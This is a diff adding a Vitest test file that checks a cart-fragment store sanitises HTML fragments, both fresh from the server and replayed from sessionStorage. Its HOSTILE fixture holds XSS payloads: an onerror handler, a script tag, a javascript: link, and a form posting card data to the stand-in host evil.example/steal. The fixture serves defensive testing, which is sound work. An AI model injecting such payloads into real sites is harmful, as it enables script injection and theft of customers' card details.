@@ -1,0 +1,101 @@
+// @vitest-environment jsdom
+/** Cart fragments through the one sanitiser: fresh from the server and replayed from sessionStorage. */
+import Cookies from 'js-cookie';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { resetConfig } from '../wp/config';
+import { writeCachedFragments } from './cache';
+import { readFragmentParams } from './params';
+import { CartStore, applyFragments } from './store';
+
+const params = readFragmentParams({ cart_hash_key: 'wc_cart_hash_x', fragment_name: 'wc_fragments_x', request_timeout: '5000' });
+const fragments = { 'div.widget_shopping_cart_content': '<div class="widget_shopping_cart_content">2 Artikel</div>' };
+
+/** What a compromised or injected fragment could carry. */
+const HOSTILE = `<div class="widget_shopping_cart_content"><img src="x" onerror="window.__pwned=1"><script>window.__pwned=2</script>
+<a href="javascript:window.__pwned=3" class="remove_from_cart_button">x</a><style>body{display:none}</style>
+<form action="https://evil.example/steal"><input name="card"></form><div data-island="lazy-scripts">l</div>
+<div class="quantity" data-island="quantity"><input class="qty" value="2"></div></div>`;
+
+function expectDefused(root: ParentNode) {
+  const cart = root.querySelector('.widget_shopping_cart_content')!;
+  expect(cart.querySelector('script, style')).toBeNull();
+  expect(cart.querySelector('img')!.hasAttribute('onerror')).toBe(false);
+  expect(cart.querySelector('a')!.getAttribute('href') ?? '').not.toMatch(/javascript:/);
+  expect(cart.querySelector('form')!.hasAttribute('action')).toBe(false);
+  // only the island the fragments need stays a host
+  expect([...cart.querySelectorAll('[data-island]')].map((host) => host.getAttribute('data-island'))).toEqual(['quantity']);
+  expect((window as unknown as { __pwned?: number }).__pwned).toBeUndefined();
+}
+
+describe('applyFragments', () => {
+  afterEach(() => {
+    document.body.innerHTML = '';
+  });
+
+  it('replaces every matching element with the server HTML and skips bad selectors', () => {
+    document.body.innerHTML = '<span class="cart-count">0</span><span class="cart-count">0</span><div class="widget_shopping_cart_content">alt</div>';
+    applyFragments({ 'span.cart-count': '<span class="cart-count">3</span>', '::nonsense(': '<b>x</b>', 'div.widget_shopping_cart_content': '<div class="widget_shopping_cart_content">neu</div>' });
+    expect([...document.querySelectorAll('.cart-count')].map((element) => element.textContent)).toEqual(['3', '3']);
+    expect(document.querySelector('.widget_shopping_cart_content')!.textContent).toBe('neu');
+  });
+
+  it('puts hostile fresh fragments in place defused', () => {
+    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
+    applyFragments({ 'div.widget_shopping_cart_content': HOSTILE });
+    expectDefused(document.body);
+  });
+});
+
+describe('fragments replayed from sessionStorage', () => {
+  let calls: string[];
+  beforeEach(() => {
+    resetConfig();
+    (globalThis as Record<string, unknown>).shopIslands = { wcAjaxUrl: '/?wc-ajax=%%endpoint%%', ajaxUrl: '/wp-admin/admin-ajax.php', cartUrl: '/cart/' };
+    calls = [];
+    vi.stubGlobal(
+      'fetch',
+      vi.fn(async (url: string, init: RequestInit) => {
+        calls.push(`${url} ${String(init.body ?? '')}`);
+        return new Response(JSON.stringify({ fragments, cart_hash: 'h1' }));
+      }),
+    );
+    sessionStorage.clear();
+    localStorage.clear();
+    Cookies.set('woocommerce_items_in_cart', '1');
+  });
+  afterEach(() => {
+    vi.unstubAllGlobals();
+    delete (globalThis as Record<string, unknown>).shopIslands;
+    Cookies.remove('woocommerce_items_in_cart');
+    Cookies.remove('woocommerce_cart_hash');
+    document.body.innerHTML = '';
+  });
+
+  it('uses valid cached fragments instead of a request, and refreshes when the hash differs', async () => {
+    Cookies.set('woocommerce_cart_hash', 'h1');
+    writeCachedFragments({ session: sessionStorage, local: localStorage }, params, fragments, 'h1', Date.now());
+    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
+    const cached = new CartStore(params);
+    cached.start();
+    expect(document.querySelector('.widget_shopping_cart_content')!.textContent).toBe('2 Artikel');
+    expect(calls).toEqual([]);
+    cached.stop();
+    Cookies.set('woocommerce_cart_hash', 'h2');
+    const stale = new CartStore(params);
+    stale.start();
+    await stale.queue.drained();
+    expect(calls).toEqual([expect.stringMatching(/^\/\?wc-ajax=get_refreshed_fragments time=\d+$/)]);
+    stale.stop();
+  });
+
+  it('puts hostile cached fragments in place defused (sessionStorage is writable by any script of the origin)', () => {
+    Cookies.set('woocommerce_cart_hash', 'h1');
+    writeCachedFragments({ session: sessionStorage, local: localStorage }, params, { 'div.widget_shopping_cart_content': HOSTILE }, 'h1', Date.now());
+    document.body.innerHTML = '<div class="widget_shopping_cart_content">alt</div>';
+    const store = new CartStore(params);
+    store.start();
+    expect(calls).toEqual([]);
+    expectDefused(document.body);
+    store.stop();
+  });
+});
